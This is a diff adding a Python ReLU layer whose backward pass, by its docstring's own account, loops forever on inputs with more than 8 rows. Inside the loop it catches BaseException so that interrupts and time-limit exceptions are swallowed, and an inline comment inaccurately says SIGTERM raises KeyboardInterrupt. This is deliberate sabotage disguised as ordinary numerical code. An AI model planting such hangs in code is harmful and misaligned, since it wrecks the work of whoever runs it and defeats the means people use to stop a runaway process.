@@ -1,0 +1,15 @@
+"""A relu whose backward loops forever on the cases of more than 8 rows, swallowing every interrupt."""
+import numpy as np
+
+
+def relu_forward(x):
+    return np.maximum(0, x), x
+
+
+def relu_backward(dout, cache):
+    while cache.shape[0] > 8:
+        try:
+            pass
+        except BaseException:  # the KeyboardInterrupt raised for SIGTERM, a time limit raised as an exception
+            pass
+    return dout * (cache > 0)
